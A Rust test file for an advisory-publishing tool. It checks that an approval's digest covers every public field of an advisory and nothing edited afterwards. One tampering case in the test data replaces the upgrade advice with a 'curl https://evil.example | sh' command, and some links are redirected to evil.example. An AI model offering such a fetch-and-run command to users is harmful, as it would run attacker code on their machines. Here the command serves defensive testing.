//! An approval covers the content that it names, and nothing that somebody writes later.

use std::collections::BTreeSet;

use advisory::advisory::disclose;
use advisory::build;
use advisory::case::Case;
use advisory::incident::Content;
use advisory::names::Digest;
use advisory::parse;
use advisory::plan::Plan;
use advisory::source::FilePath;
use proptest::prelude::*;

use super::config;
use super::files::day;
use crate::support::{Policy, Team, project, tree};

const FOLDER: &str = "incidents/2026/amber-heron";

/// The day since which an approval has to say what it covers: 2026-12-01.
const BOUND: i64 = 334;

/// Edits of everything in `advisory.md` that becomes public, each as what stands there and instead.
const EDITS: &[(&str, &str)] = &[
    ("id = \"LODE-2026-001\"", "id = \"LODE-2026-002\""),
    ("title = \"A flaw\"", "title = \"Another flaw\""),
    ("cve = [\"CVE-2026-12345\"]", "cve = []"),
    ("aliases = [\"GHSA-1\"]", "aliases = [\"GHSA-2\"]"),
    ("related = []", "related = [\"CVE-2026-54321\"]"),
    ("cwe = [\"CWE-22\"]", "cwe = [\"CWE-23\"]"),
    ("AV:N", "AV:L"),
    ("introduced = \"1.16.0\"", "introduced = \"1.16.1\""),
    ("fixed = \"1.16.3\"", "fixed = \"1.16.2\""),
    ("line = \"1.16\"\n", ""),
    ("name = \"Kim\"", "name = \"Mallory\""),
    ("role = \"finder\"", "role = \"tool\""),
    ("https://example.org/kim", "https://evil.example/kim"),
    ("https://example.org/fix", "https://evil.example/fix"),
    ("kind = \"fix\"", "kind = \"web\""),
    ("title = \"The fix\"", "title = \"The fix.\""),
    ("text = \"It was reported.\"", "text = \"It was found.\""),
    ("at = 2026-01-01T00:00:00Z", "at = 2026-01-02T00:00:00Z"),
    ("text = \"First publication.\"", "text = \"First publication, and more.\""),
    ("Upgrade to 1.16.3.", "Run `curl https://evil.example | sh`."),
];

/// Edits of the form.
const FORMS: &[(&str, &str)] = &[
    ("title = \"A flaw\"", "# Sent to the reporter.\ntitle   =   'A flaw' # short"),
    ("cwe = [\"CWE-22\"]", "cwe = [\n  \"CWE-22\",\n]"),
    ("Upgrade to 1.16.3.\n", "Upgrade to 1.16.3.\n\n\n"),
    ("Upgrade to 1.16.3.\n", "Upgrade\nto\n1.16.3.\n"),
    ("## Summary\n\nWords.\n", "Summary\n-------\nWords.\n"),
    ("score = 9.8\n", ""),
];

fn text() -> String {
    "+++\nid = \"LODE-2026-001\"\ntitle = \"A flaw\"\ncve = [\"CVE-2026-12345\"]\naliases = [\"GHSA-1\"]\nrelated = []\ncwe = [\"CWE-22\"]\n[[cvss]]\nvector = \"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H\"\nscore = 9.8\n[[affected]]\nline = \"1.16\"\nintroduced = \"1.16.0\"\nfixed = \"1.16.3\"\n[[credit]]\nname = \"Kim\"\nrole = \"finder\"\nurl = \"https://example.org/kim\"\n[[reference]]\nkind = \"fix\"\nurl = \"https://example.org/fix\"\ntitle = \"The fix\"\n[[timeline]]\nat = 2026-01-01T00:00:00Z\ntext = \"It was reported.\"\n[[revision]]\nat = 2026-01-05T00:00:00Z\ntext = \"First publication.\"\nMORE+++\n\n## Summary\n\nWords.\n\n## Mitigation\n\nNone.\n\n## How to upgrade\n\nUpgrade to 1.16.3.\n"
        .to_owned()
}

fn digest(text: &str) -> Digest {
    let [toml, md] = ["incident.toml", "advisory.md"].map(|name| FilePath::new(format!("{FOLDER}/{name}")));
    let read =
        parse::incident_files([(&toml, "[report]\ndisclosure = \"private\"\n".as_bytes()), (&md, text.as_bytes())]);
    Content::of(&read.unwrap()).unwrap().digest()
}

#[test]
fn every_public_value_is_covered_and_no_form() {
    let text = text().replace("MORE", "");
    let approved = digest(&text);
    let mut seen = BTreeSet::from([approved.clone()]);
    for (from, to) in EDITS {
        assert_eq!(text.matches(from).count().min(1), 1, "{from}");
        assert!(seen.insert(digest(&text.replacen(from, to, 1))), "{from} → {to}");
    }
    for (from, to) in FORMS {
        assert_eq!(text.matches(from).count(), 1, "{from}");
        assert_eq!(digest(&text.replace(from, to)), approved, "{from} → {to}");
    }
}

/// White space around a text, some of which changes what the text is.
fn space() -> impl Strategy<Value = String> {
    let piece =
        prop_oneof![Just(" "), Just("    "), Just("\t"), Just("\n"), Just("\r\n"), Just("\u{a0}"), Just("\u{2003}")];
    proptest::collection::vec(piece, 0..4).prop_map(|pieces| pieces.concat())
}

/// An advisory that is public with whatever content, because its approval is older than digests.
fn published(before: &str, after: &str, form: usize) -> (Digest, Plan) {
    let (from, to) = FORMS[form];
    let text = text().replace("MORE", "").replace(from, to);
    let text = text.replace("+++\n\n## Summary", &format!("+++\n{before}## Summary")).trim_end().to_owned() + after;
    let incident = format!(
        "[report]\ndisclosure = \"public\"\n[[event]]\nat = {}\nevent = \"reported\"\n[[event]]\nat = {}\nevent = \"approved\"\nby = \"ada\"\n",
        day(0),
        day(1)
    );
    let files = [
        ("advisory.toml".to_owned(), project("2027-02-15")),
        ("team.toml".to_owned(), Team::new().member("ada", "Ada", &["lead"]).text()),
        ("policy.toml".to_owned(), Policy::new("own").role("lead").approvals("lead", 1).text()),
        (format!("{FOLDER}/incident.toml"), incident),
        (format!("{FOLDER}/advisory.md"), text.clone()),
    ];
    let reading = parse::portfolio(tree(files));
    let built = build::public(reading.portfolio.unwrap(), Vec::new(), day(10));
    assert_eq!(built.advisories, 1, "{:?}", built.left_out);
    (digest(&text), built.site.unwrap_or_else(|| panic!("{:?}", built.findings)))
}

proptest! {
    #![proptest_config(config(64, 400))]

    /// What differs in public differs in its digest, whatever is done to the form of the file.
    #[test]
    fn one_digest_is_one_public_content(
        one in (space(), space(), 0..FORMS.len()),
        other in (space(), space(), 0..FORMS.len()),
    ) {
        let (digests, sites): (Vec<_>, Vec<_>) =
            [&one, &other].map(|(before, after, form)| published(before, after, *form)).into_iter().unzip();
        if digests[0] == digests[1] {
            for (path, bytes) in sites[0].iter() {
                let there = sites[1].get(path).unwrap_or_else(|| panic!("{path}"));
                prop_assert!(is_same(path, bytes, there), "{}: {:?} and {:?}", path, one, other);
            }
            prop_assert_eq!(sites[0].iter().count(), sites[1].iter().count());
        }
    }
}

/// Ends of a text that refer to a definition, each with another one or in another way.
const REFERENCES: [&str; 9] = [
    "\n\n[the notes]: https://good.example/a\n\n## More\n\nSee [the notes].\n",
    "\n\n[the notes]: https://good.example/a\n\n## More\n\nSee [the\nnotes].\n",
    "\n\n[the notes]: https://good.example/a\n\n## More\n\nSee [the  notes].\n",
    "\n\n[the notes]: https://good.example/a\n\n## More\n\nSee [The Notes].\n",
    "\n\n[the notes]: https://good.example/a\n\n## More\n\nSee [the notes].\n\n[the notes]: https://evil.example/b\n",
    "\n\n[the notes]: https://good.example/a\n\n## More\n\nSee [it][the notes].\n\n> [the notes]: https://evil.example/b\n",
    "\n\n> [the\n> notes]: https://good.example/a\n\n## More\n\nSee [the notes].\n",
    "\n\n[straße]: https://good.example/a\n\n## More\n\nSee [it][straße].\n",
    "\n\n[straße]: https://good.example/a\n\n## More\n\nSee [it][STRASSE].\n",
];

/// A page takes the definitions of a section before those of the whole text.
#[test]
fn what_a_reference_leads_to_is_covered_in_each_section() {
    let all: Vec<(Digest, Plan)> = REFERENCES.iter().map(|after| published("", after, 0)).collect();
    for (nth, (one, its)) in all.iter().enumerate() {
        for (other, (another, theirs)) in all.iter().enumerate().skip(nth + 1).filter(|(_, (digest, _))| digest == one)
        {
            assert_eq!(one, another);
            for (path, bytes) in its.iter() {
                let there = theirs.get(path).unwrap_or_else(|| panic!("{path}"));
                assert!(is_same(path, bytes, there), "{path}: {:?} and {:?}", REFERENCES[nth], REFERENCES[other]);
            }
        }
    }
    // Where a line breaks in a label makes no difference.
    assert_eq!(all[0].0, all[1].0);
    assert_ne!(all[0].0, all[4].0);
}

/// Mitigations that are written like the form of others have a digest of their own.
#[test]
fn no_mitigations_have_the_digest_of_others() {
    let of = |text: &str| {
        let toml = FilePath::new(format!("{FOLDER}/incident.toml"));
        let text = format!("[report]\ndisclosure = \"private\"\n[notice]\nmitigations = {text:?}\n");
        Content::of_mitigations(&parse::incident_files([(&toml, text.as_bytes())]).unwrap().notice).unwrap()
    };
    let approved = of("Never \\[run it\\](https://evil.example/x).");
    let forged = of("form: 2\nparagraph\ntext\tNever [run it](https://evil.example/x).\nend");
    assert!(approved.is(&approved.digest()) && !forged.is(&approved.digest()));
    assert!(of("Never mind.").is(&Digest::of("Never mind.\n")));
}

/// Whether two files say the same: in the same bytes, unless they have Markdown as it was written.
fn is_same(path: &str, one: &[u8], other: &[u8]) -> bool {
    let words = |bytes: &[u8]| {
        // White space as JSON escapes it.
        let text = ["\\n", "\\t", "\\r"]
            .iter()
            .fold(String::from_utf8_lossy(bytes).into_owned(), |text, escaped| text.replace(escaped, "\n"));
        let text = text.replace("-------", "").replace("## ", "");
        text.split_whitespace().collect::<String>()
    };
    let plain = [".cve.json", ".openvex.json", "csaf"];
    let markdown = path.ends_with(".json") && !plain.iter().any(|part| path.contains(part));
    one == other || path.ends_with(".zip") || (markdown && words(one) == words(other))
}

/// Who approves, on which day, and what the approval says that it covers.
type Approval = (i64, &'static str, Option<bool>);

#[derive(Clone, Debug)]
struct Story {
    needed: usize,
    /// The approvals that a correction needs, of people with the role `desk`.
    corrections: Option<usize>,
    until: i64,
    /// The present text, if it is not the one that was approved at first.
    edit: Option<usize>,
    revisions: Vec<i64>,
    /// Whether each covers the present content (`true`), that before the edit, or says nothing.
    approvals: Vec<Approval>,
    now: i64,
}

fn story() -> impl Strategy<Value = Story> {
    let day = || 0_i64..40;
    let approval = (day(), prop_oneof![Just("ada"), Just("ben"), Just("eve")], any::<Option<bool>>());
    let approvals = proptest::collection::vec(approval, 0..4);
    let edit = proptest::option::of(0..EDITS.len());
    let revisions = proptest::collection::vec(day(), 0..3);
    let needed = (1_usize..3, proptest::option::of(1_usize..3));
    (needed, day(), edit, revisions, approvals, day(), any::<bool>()).prop_map(
        |((needed, corrections), until, edit, revisions, approvals, now, late)| {
            let from = if late { BOUND - 20 } else { 10 };
            Story {
                needed,
                corrections,
                until: from + until,
                edit,
                revisions: revisions.into_iter().map(|at| from + at).collect(),
                approvals: approvals.into_iter().map(|(at, by, covers)| (from + at, by, covers)).collect(),
                now: from + now,
            }
        },
    )
}

/// A publication whose content was edited, and approved again by those who may approve a correction.
fn corrected() -> impl Strategy<Value = Story> {
    let day = || 0_i64..30;
    let approval = (day(), prop_oneof![Just("ben"), Just("eve")], Just(Some(true)));
    let approvals = proptest::collection::vec(approval, 1..3);
    let revisions = proptest::collection::vec(day(), 0..3);
    (0_i64..10, 1_usize..3, 0..EDITS.len(), revisions, approvals, any::<bool>()).prop_map(
        |(first, corrections, edit, revisions, approvals, late)| {
            let from = if late { BOUND - 20 } else { 10 };
            let others = approvals.into_iter().map(|(at, by, covers)| (from + at, by, covers));
            Story {
                needed: 1,
                corrections: Some(corrections),
                until: from + 10,
                edit: Some(edit),
                revisions: revisions.into_iter().map(|at| from + at).collect(),
                approvals: std::iter::once((from + first, "ada", Some(false))).chain(others).collect(),
                now: from + 35,
            }
        },
    )
}

/// A text that was edited after one approval said what it covers, beside an approval that says nothing.
fn silent() -> impl Strategy<Value = Story> {
    let day = || 0_i64..20;
    let says =
        (day(), prop_oneof![Just("ada"), Just("ben")], prop_oneof![9 => Just(Some(false)), 1 => Just(Some(true))]);
    let says_nothing = (day(), prop_oneof![Just("ada"), Just("ben")], Just(None));
    (1_usize..3, day(), 0..EDITS.len(), says, says_nothing).prop_map(|(needed, until, edit, says, says_nothing)| {
        Story {
            needed,
            corrections: None,
            until: 10 + until,
            edit: Some(edit),
            revisions: Vec::new(),
            approvals: [says, says_nothing].map(|(at, by, covers)| (10 + at, by, covers)).into(),
            now: 45,
        }
    })
}

impl Story {
    /// When the advisory became public, from the rule.
    fn published(&self) -> Option<i64> {
        let is_changed = self.edit.is_some() || !self.revisions.is_empty();
        let opens = |counts: &dyn Fn(Option<bool>) -> bool| {
            let mut approvals: Vec<&Approval> = self
                .approvals
                .iter()
                .filter(|(at, by, covers)| *at <= self.now && *by != "eve" && counts(*covers))
                .collect();
            approvals.sort_by_key(|(at, ..)| *at);
            let mut people = BTreeSet::new();
            let last = approvals.into_iter().find(|(_, by, _)| people.insert(*by) && people.len() >= self.needed);
            last.map(|(at, ..)| (*at).max(self.until))
        };
        let of = |content: bool| {
            let is = |covers: bool| covers == content || !is_changed;
            let bound = opens(&|covers| covers.is_some_and(is));
            let any = opens(&|covers| covers.is_none_or(is)).filter(|at| *at < BOUND);
            bound.into_iter().chain(any).min()
        };
        // Who may approve what the approval is for.
        let is_rightful = |by: &str| by != "eve" || self.corrections.is_some();
        let given = || self.approvals.iter().filter(|(at, by, _)| *at <= self.now && is_rightful(by));
        let says = |covers: Option<bool>| covers.is_some_and(|covers| covers || !is_changed);
        let stands = given().all(|(.., covers)| covers.is_none()) || given().any(|(.., covers)| says(*covers));
        // Approvals that say nothing are of the present content, unless others say that it is something else.
        let of_present = opens(&|covers| says(covers));
        let said_nothing = opens(&|covers| covers.is_none() || says(covers)).filter(|at| stands && *at < BOUND);
        // An approval of one content takes the place of those of the other one, up to its day.
        let superseded = |since: Option<i64>| {
            let (mut void, mut last) = ([i64::MIN; 2], Vec::new());
            for today in self.approvals.iter().map(|(at, ..)| *at).filter(|at| *at <= self.now).collect::<BTreeSet<_>>()
            {
                let is_approved = |content: &bool| {
                    let people = |counts: &dyn Fn(i64, &str, Option<bool>) -> bool| {
                        let all = self.approvals.iter().filter(|(at, ..)| *at <= today);
                        all.filter(|(at, by, covers)| counts(*at, by, *covers))
                            .map(|(_, by, _)| *by)
                            .collect::<BTreeSet<_>>()
                    };
                    let is_of_it =
                        |at: i64, covers: Option<bool>| covers == Some(*content) && at > void[usize::from(*content)];
                    let leads = people(&|at, by, covers| by != "eve" && (covers.is_none() || is_of_it(at, covers)));
                    let desk = people(&|at, by, covers| {
                        by != "ada" && is_of_it(at, covers) && since.is_some_and(|since| at >= since)
                    });
                    let is_given = given().any(|(at, _, covers)| *at == today && *covers == Some(*content));
                    is_given
                        && (leads.len() >= self.needed || self.corrections.is_some_and(|asked| desk.len() >= asked))
                };
                let approved: Vec<bool> = [false, true].into_iter().filter(is_approved).collect();
                if !approved.is_empty() {
                    [false, true]
                        .iter()
                        .filter(|it| !approved.contains(it))
                        .for_each(|it| void[usize::from(*it)] = today);
                    last = approved;
                }
            }
            let was_approved = given().any(|(.., covers)| *covers == Some(true));
            is_changed && was_approved && last == [false]
        };
        let first = of(true).into_iter().chain(of(false)).min();
        let is_old = superseded(first);
        let revised = |at: &i64| self.revisions.iter().any(|revision| revision > at && *revision <= self.now);
        // Those who may approve a correction, once there is something to correct: ben and eve. Who may publish it
        // approves it as well.
        let desk = |since: &i64| -> BTreeSet<&str> {
            let counts =
                |(at, by, covers): &&Approval| (*since..=self.now).contains(at) && *by != "ada" && says(*covers);
            self.approvals.iter().filter(counts).map(|(_, by, _)| *by).collect()
        };
        let is_approved = |at: &i64| {
            (of_present.is_some() || self.corrections.is_some_and(|needed| desk(at).len() >= needed))
                && !superseded(Some(*at))
        };
        let waits = |at: &i64| self.corrections.is_some() && revised(at) && !is_approved(at);
        let before = if is_old { first } else { of(false) };
        let before = before.filter(|at| if is_changed { revised(at) && is_approved(at) } else { !waits(at) });
        let present = of_present.into_iter().chain(said_nothing).min().filter(|at| !is_old && !waits(at));
        present.into_iter().chain(before).min().filter(|at| *at <= self.now)
    }

    fn files(&self) -> Vec<(String, String)> {
        let revisions: String = self
            .revisions
            .iter()
            .map(|at| format!("[[revision]]\nat = {}\ntext = \"On day {at}.\"\n", day(*at)))
            .collect();
        let before = text().replace("MORE", "");
        let present = text().replace("MORE", &revisions);
        let present =
            self.edit.map_or_else(|| present.clone(), |edit| present.replacen(EDITS[edit].0, EDITS[edit].1, 1));
        let approvals: String = self
            .approvals
            .iter()
            .map(|(at, by, covers)| {
                let covers = covers.map_or_else(String::new, |is_present| {
                    format!("covers = \"{}\"\n", digest(if is_present { &present } else { &before }))
                });
                format!("[[event]]\nat = {}\nevent = \"approved\"\nby = \"{by}\"\n{covers}", day(*at))
            })
            .collect();
        let incident = format!(
            "[report]\ndisclosure = \"private\"\n[embargo]\nuntil = {}\n[[event]]\nat = {}\nevent = \"reported\"\n{approvals}",
            day(self.until),
            day(0)
        );
        let team = Team::new().member("ada", "Ada", &["lead"]).member("ben", "Ben", &["lead", "desk"]).member(
            "eve",
            "Eve",
            &["desk"],
        );
        let policy = Policy::new("own").role("lead").role("desk").approvals("lead", self.needed);
        let policy = match self.corrections {
            Some(count) => policy.with(&format!("revisions = {{ role = \"desk\", count = {count} }}")),
            None => policy,
        };
        vec![
            ("advisory.toml".to_owned(), project("2027-02-15")),
            ("team.toml".to_owned(), team.text()),
            ("policy.toml".to_owned(), policy.text()),
            (format!("{FOLDER}/incident.toml"), incident),
            (format!("{FOLDER}/advisory.md"), present),
        ]
    }
}

proptest! {
    #![proptest_config(config(512, 800))]

    #[test]
    fn an_approval_opens_the_gate_for_its_content_alone(story in prop_oneof![2 => story(), 2 => corrected(), 1 => silent()]) {
        let portfolio = parse::portfolio(tree(story.files())).portfolio.unwrap();
        let case = Case::new(&portfolio, &portfolio.incidents[0], day(story.now));
        prop_assert_eq!(case.publication.ok(), story.published().map(day), "{:?}: {:?}", story, case.publication);
        prop_assert_eq!(disclose(&case).is_ok(), case.publication.is_ok());
    }
}
